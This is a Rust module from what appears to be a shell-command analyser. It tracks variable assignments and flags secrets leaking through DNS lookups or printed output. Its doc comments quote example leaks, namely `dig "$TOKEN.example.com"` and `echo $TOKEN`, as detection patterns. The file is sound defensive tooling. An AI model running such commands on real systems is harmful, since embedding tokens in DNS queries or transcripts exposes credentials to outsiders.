//! Assignments, and output of secret variables.

use std::rc::Rc;

use super::run::program_name;
use super::shell::{
    AssignedValue, Assignment, ParameterOp, Redirect, RedirectOp, Simple, WordPart,
};
use super::state::Value;
use super::value::{Argument, MAX_TEXT, TextOrigin, UNKNOWN};
use super::walk::ShellWalker;

const MAX_VARIABLES: usize = 500;

impl ShellWalker<'_> {
    /// Whether a secret is part of a host name: `dig "$TOKEN.example.com"`.
    pub(super) fn leaks_secret_by_dns(&self, simple: &Simple, argv: &[Argument]) -> bool {
        let resolves =
            argv.first().is_some_and(|arg| super::rules::is_resolver(&program_name(&arg.text)));
        resolves
            && simple.words.iter().flat_map(|word| &word.parts).any(|part| self.is_secret(part))
    }

    fn is_secret(&self, part: &WordPart) -> bool {
        match part {
            // Length and presence are not secret.
            WordPart::Parameter {
                op: ParameterOp::Length | ParameterOp::Alternative(_) | ParameterOp::Indirect,
                ..
            } => false,
            WordPart::Parameter { name, .. } => {
                super::rules::is_secret_name(name) && !self.state.variables.contains_key(name)
            }
            _ => false,
        }
    }

    /// Whether a secret goes to the transcript: `echo $TOKEN`.
    pub(super) fn prints_secret(&self, simple: &Simple, argv: &[Argument]) -> bool {
        let Some(program) = argv.first().map(|arg| arg.text.as_str()) else { return false };
        let prints = ["echo", "printf", "print"].contains(&program);
        let redirects_output =
            |redirect: &Redirect| matches!(redirect.op, RedirectOp::Write | RedirectOp::Append);
        let secret = |part: &WordPart| self.is_secret(part);
        let has_here_text = |redirect: &Redirect| {
            redirect.op == RedirectOp::HereString && redirect.target.parts.iter().any(secret)
        };
        !simple.redirects.iter().any(redirects_output)
            && (prints && simple.words.iter().any(|word| word.parts.iter().any(secret))
                || program == "cat" && simple.redirects.iter().any(has_here_text))
    }

    pub(super) fn assignment(&mut self, assignment: &Assignment, argv: &[Argument]) {
        let Assignment { name, append, index, value } = assignment;
        if let Some(index) = index {
            self.expand_to_text(index);
        }
        let mut fields = match value {
            AssignedValue::Word(word) => vec![self.expand_to_text(word)],
            AssignedValue::Array(words) => {
                let mut elements = self.expand_words(words);
                elements.iter_mut().for_each(strip_index);
                elements
            }
        };
        let text = fields.first().map(|arg| arg.text.as_str()).unwrap_or_default();
        let mut words = vec![Argument::known(format!("{name}={text}"))];
        words.extend_from_slice(argv);
        self.check_exported_variable(&words, name, fields.first());
        if *append || index.is_some() {
            let known = match self.state.variables.get(name) {
                Some(Value::Known(all)) if all.len() == 1 => all.first().cloned(),
                None | Some(Value::Unset) => Some(Rc::from(Vec::new())),
                _ => None,
            };
            let Some(old) = known else {
                self.set_unknown(name, TextOrigin::Literal);
                return;
            };
            let mut old: Vec<Argument> = old.iter().map(Argument::known).collect();
            if index.is_some() || matches!(value, AssignedValue::Array(_)) {
                old.append(&mut fields);
            } else if let (Some(last), Some(more)) = (old.last_mut(), fields.first()) {
                last.text.push_str(&more.text);
            } else {
                old.append(&mut fields);
            }
            fields = old;
        }
        let origin = fields.iter().map(|field| field.origin).max().unwrap_or_default();
        if fields.iter().any(Argument::is_unknown) && origin != TextOrigin::Literal {
            self.set_unknown(name, origin);
        } else {
            self.set(name, fields.into_iter().map(|field| field.text).collect());
        }
    }

    pub(super) fn assign(&mut self, name: &str, value: Argument) {
        if value.is_unknown() && value.origin != TextOrigin::Literal {
            self.set_unknown(name, value.origin);
        } else {
            self.set(name, vec![value.text]);
        }
    }

    pub(super) fn set(&mut self, name: &str, fields: Vec<String>) {
        if self.state.variables.len() >= MAX_VARIABLES {
            self.report_too_complex();
            return;
        }
        let fields = match fields.iter().map(String::len).sum::<usize>() > MAX_TEXT {
            true => vec![UNKNOWN.to_string()],
            false => fields,
        };
        self.state.may_vary |= fields.len() > 1;
        self.state.variables.insert(name.to_owned(), Value::Known(vec![Rc::from(fields)]));
    }

    pub(super) fn set_unknown(&mut self, name: &str, origin: TextOrigin) {
        if self.state.variables.len() < MAX_VARIABLES {
            self.state.variables.insert(name.to_owned(), Value::Unknown(origin));
        } else {
            self.report_too_complex();
        }
    }
}

/// Removes the index of `[0]=rm`.
fn strip_index(element: &mut Argument) {
    if let Some((_, value)) =
        element.text.split_once("]=").filter(|(index, _)| index.starts_with('['))
    {
        element.text = value.to_owned();
    }
}

/// The values that `read`, `mapfile` and `readarray` assign from known input.
pub(super) fn read_builtin_values(
    name: &str,
    args: &[Argument],
    text: &str,
) -> Vec<(String, Vec<String>)> {
    let mut names = Vec::new();
    let mut array = name != "read";
    let mut rest = args.iter().map(|arg| arg.text.as_str());
    while let Some(arg) = rest.next() {
        let Some(letters) = arg.strip_prefix('-') else {
            names.push(arg.to_owned());
            continue;
        };
        array |= name == "read" && letters.contains('a');
        // The last letter takes the next word; for `-a` it is the name.
        let valued = if name == "read" { "pdnNtui" } else { "dnOsuCc" };
        if letters.chars().next_back().is_some_and(|letter| valued.contains(letter)) {
            rest.next();
        }
    }
    let words = |line: &str| line.split_whitespace().map(str::to_owned).collect::<Vec<_>>();
    let line = text.lines().next().unwrap_or_default();
    if array {
        let fields =
            if name == "read" { words(line) } else { text.lines().map(str::to_owned).collect() };
        return names.into_iter().take(1).map(|name| (name, fields.clone())).collect();
    }
    let count = names.len();
    let mut remaining = line.trim();
    let mut values = Vec::new();
    for (at, name) in names.into_iter().enumerate() {
        let (field, tail) = match remaining.split_once(char::is_whitespace) {
            Some((field, tail)) if at + 1 < count => (field, tail.trim_start()),
            _ => (remaining, ""),
        };
        values.push((name, vec![field.to_owned()]));
        remaining = tail;
    }
    values
}
